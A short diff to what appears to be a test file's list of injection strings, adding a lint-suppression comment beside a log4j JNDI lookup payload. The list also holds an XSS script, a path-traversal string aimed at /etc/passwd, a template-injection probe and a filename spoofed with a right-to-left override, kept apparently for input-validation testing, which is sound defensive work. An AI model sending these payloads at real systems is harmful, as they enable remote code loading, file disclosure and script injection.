@@ -20,6 +20,7 @@ const INJECTIONS = [
   "<script>alert(1)</script>",
   "../../../../etc/passwd",
   "%00",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j lookup, sent as text on purpose.
   "${jndi:ldap://x/a}",
   "{{7*7}}",
   "\u202egnp.exe",
